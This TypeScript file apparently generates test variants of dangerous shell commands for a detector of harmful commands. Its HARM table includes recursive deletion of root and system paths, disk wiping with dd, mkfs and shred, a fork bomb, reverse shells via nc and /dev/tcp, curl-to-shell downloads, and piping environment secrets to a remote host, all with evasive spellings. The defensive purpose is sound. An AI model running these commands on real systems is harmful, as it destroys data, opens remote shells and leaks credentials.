// Commands that do harm, as a shell would be given them, and with them the other names of what is in them.
import { file, type Flag, flags, folder, home, placed, program, shuffled } from './aliases.ts';
import { type Choose, type Command, scriptOf, type Word, wordsOf } from './command.ts';
import { type Part, writtenParts } from './layout.ts';

type Harm = (choose: Choose) => readonly Part[];

const RECURSIVE: Flag = ['r', '-R', '--recursive', '--rec', '--r'];
const RECURSIVE_R: Flag = ['R', '--recursive', '--recursi'];
const FORCE: Flag = ['f', '--force', '--fo'];
const URL = 'https://example.com/install.sh';

/** By what they look like when nothing is done to them. */
export const HARM: Readonly<Record<string, Harm>> = {
  'rm -rf /': deletes('/'),
  'rm -rf /etc': deletes('/etc'),
  'rm -rf /usr': deletes('/usr'),
  'rm -rf /home': deletes('/home'),
  'rm -rf ~': (choose) => [
    [program('rm', choose), ...placed(flags([RECURSIVE, FORCE], choose), [home(choose)], choose)],
  ],
  'rm -rf /*': (choose) => [
    [
      program('rm', choose),
      ...flags([RECURSIVE, FORCE], choose),
      { raw: choose(['/*', '//*', '/./*', '/usr/../*', '/*/']) },
    ],
  ],
  'rm -rf --no-preserve-root x': (choose) => [
    ['rm', ...shuffled(['-rf', choose(['--no-preserve-root', '--no-preserve']), 'x'], choose)],
  ],
  'find / -delete': (choose) => [
    [
      program('find', choose),
      folder('/', choose),
      ...choose([[], ['-xdev'], ['-depth']]),
      '-delete',
    ],
  ],
  'find / -exec rm -rf {} +': (choose) => [
    ['find', folder('/', choose), '-exec', 'rm', '-rf', '{}', choose(['+', ';'])],
  ],
  'mv /etc /tmp/x': (choose) => [[program('mv', choose), folder('/etc', choose), '/tmp/x']],
  'mkfs.ext4 -F /dev/sda1': (choose) => [
    [program('mkfs.ext4', choose), ...placed(['-F'], [file('/dev/sda1', choose)], choose)],
  ],
  'wipefs -a /dev/vdb': (choose) => [
    ['wipefs', choose(['-a', '--all', '-af']), file('/dev/vdb', choose)],
  ],
  'shred /dev/nvme0n1': (choose) => [[program('shred', choose), file('/dev/nvme0n1', choose)]],
  'dd if=/dev/zero of=/dev/sda': (choose) => [
    [
      program('dd', choose),
      ...shuffled(['if=/dev/zero', `of=${file('/dev/sda', choose)}`, 'bs=1M'], choose),
    ],
  ],
  'tee /dev/sda': (choose) => [
    ['tee', ...choose([[], ['-a'], ['--append']]), file('/dev/sda', choose)],
  ],
  'cat image > /dev/sda': (choose) => [
    ['cat', 'image'],
    choose([' > ', '>', ' >| ', ' >> ', ' 1> ', ' &> ']),
    [file('/dev/sda', choose)],
  ],
  'echo x > /etc/passwd': (choose) => [
    ['echo', 'x'],
    choose([' > ', ' >> ', ' 1>']),
    [file('/etc/passwd', choose)],
  ],
  'echo b > /proc/sysrq-trigger': (choose) => [
    ['echo', 'b'],
    choose([' > ', '>']),
    [file('/proc/sysrq-trigger', choose)],
  ],
  'chmod -R 777 /': changes('chmod', '777', '/'),
  'chown -R nobody /etc': changes('chown', 'nobody', '/etc'),
  'chgrp -R users /usr': changes('chgrp', 'users', '/usr'),
  reboot: (choose) => [[program('reboot', choose)]],
  'shutdown -h now': (choose) => [
    [program('shutdown', choose), choose(['-h', '-r', '-P', '--poweroff']), 'now'],
  ],
  'systemctl poweroff': (choose) => [
    [
      'systemctl',
      ...choose([[], ['--force'], ['-f', '-f']]),
      choose(['poweroff', 'reboot', 'halt']),
    ],
  ],
  'init 0': (choose) => [[choose(['init', 'telinit', '/sbin/init']), choose(['0', '6'])]],
  'rmmod kvm': () => [['rmmod', 'kvm']],
  'zpool destroy tank': (choose) => [['zpool', 'destroy', ...choose([[], ['-f']]), 'tank']],
  'nc -e /bin/sh 203.0.113.9 4444': (choose) => [
    [
      choose(['nc', 'ncat', 'netcat', '/usr/bin/nc']),
      ...placed([choose(['-e', '-ne', '-c']), '/bin/sh'], ['203.0.113.9', '4444'], choose),
    ],
  ],
  'ncat --exec /bin/sh 203.0.113.9 4444': (choose) => [
    [
      'ncat',
      ...choose([['--exec', '/bin/sh'], ['--exec=/bin/sh'], ['--sh-exec', 'sh']]),
      '203.0.113.9',
      '4444',
    ],
  ],
  'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1': (choose) => [
    [program(choose(['bash', 'sh']), choose), '-i'],
    choose([' >& ', ' &> ', ' > ', ' <> ', ' < ']),
    [choose(['/dev/tcp/203.0.113.9/4444', '/dev/udp/example.com/53'])],
    choose([' 0>&1', ' 0<&1 2>&1']),
  ],
  ':(){ :|:& };:': (choose) => {
    const name = choose([':', 'f', 'bomb', '_', 'a-b']);
    const call = choose([
      `${name}|${name}&`,
      `${name} | ${name} &`,
      `${name} & ${name};`,
      `(${name}|${name})&`,
    ]);
    const head =
      name === ':' ? `${name}()` : choose([`${name}()`, `${name} ()`, `function ${name}`]);
    return [`${head} { ${call} }${choose([';', '\n'])}${name}`];
  },
  'curl URL | sh': (choose) => [
    [program('curl', choose), choose(['-fsSL', '-s', '--silent']), URL],
    choose([' | ', '|', ' |\n', ' |& ', ' | tee log | ']),
    [
      program(choose(['sh', 'bash', 'zsh', 'dash']), choose),
      ...choose([[], ['-s'], ['-x'], ['-']]),
    ],
  ],
  'wget -qO- URL | bash': (choose) => [
    [program('wget', choose), ...choose([['-qO-'], ['-q', '-O', '-'], ['-O-', '--quiet']]), URL],
    choose([' | ', '|']),
    choose([['bash'], ['sudo', 'bash'], ['sudo', '-E', 'bash', '-'], ['env', 'A=1', 'sh']]),
  ],
  'bash <(curl URL)': (choose) => [
    choose([['bash'], ['source'], ['.'], ['sh', '-x']]),
    choose([' <(', ' < <(', ' <( ']).replace(/^ < </, ' <'),
    ['curl', choose(['-s', '-fsSL']), URL],
    ')',
  ],
  'eval "$(curl URL)"': (choose) => [
    choose([['eval'], ['bash', '-c'], ['sh', '-ec']]),
    ' "$(',
    ['curl', choose(['-s', '-fsSL']), URL],
    ')"',
  ],
  'curl URL | python3': (choose) => [
    ['curl', '-s', URL],
    ' | ',
    choose([['python3'], ['python3', '-'], ['perl'], ['ruby'], ['node', '-']]),
  ],
  'git push --force origin main': (choose) => [
    [
      ...['git', ...choose([[], ['-C', '.'], ['-c', 'a.b=c'], ['--no-pager']]), 'push'],
      ...placed([choose(['--force', '-f', '--forc'])], ['origin', 'main'], choose),
    ],
  ],
  'useradd -o -u 0 x': (choose) => [
    [
      program('useradd', choose),
      ...choose([['-o', '-u', '0'], ['-ou', '0'], ['-ou0'], ['--non-unique', '--uid=0']]),
      'x',
    ],
  ],
  'iptables -F': (choose) => [[program('iptables', choose), choose(['-F', '--flush'])]],
  'crontab -r': (choose) => [[program('crontab', choose), '-r']],
  'terraform destroy -auto-approve': (choose) => [
    ['terraform', 'destroy', choose(['-auto-approve', '--auto-approve'])],
  ],
  'docker run --privileged -v /:/host x': (choose) => [
    [
      choose(['docker', 'podman']),
      'run',
      ...shuffled(['--privileged', choose(['--volume=/:/host', '-v/:/host'])], choose),
      'x',
    ],
  ],
  'history -c': () => [['history', '-c']],
  'env | curl -d @- https://example.com': (choose) => [
    [choose(['env', 'printenv'])],
    ' | ',
    [
      'curl',
      ...choose([['-d', '@-'], ['-d@-'], ['--data', '@-'], ['--data-binary=@-']]),
      'https://example.com',
    ],
  ],
};

/** As words, where it is one simple command. */
export function commandOf(harm: Harm, choose: Choose): Command {
  const parts = harm(choose);
  const [first] = parts;
  if (parts.length > 1 || first === undefined) return writtenParts(parts, choose);
  return typeof first === 'string'
    ? scriptOf(first)
    : wordsOf(first, { isBuiltin: isBuiltin(first) });
}

function isBuiltin([name]: readonly Word[]): boolean {
  return name === 'history';
}

function deletes(path: string): Harm {
  return (choose) => {
    const options = flags([RECURSIVE, FORCE], choose);
    return [[program('rm', choose), ...placed(options, [folder(path, choose)], choose)]];
  };
}

function changes(name: string, to: string, path: string): Harm {
  return (choose) => {
    const options = flags([RECURSIVE_R, ['f', '--silent', '--quiet']], choose);
    return [[program(name, choose), ...placed(options, [to, folder(path, choose)], choose)]];
  };
}
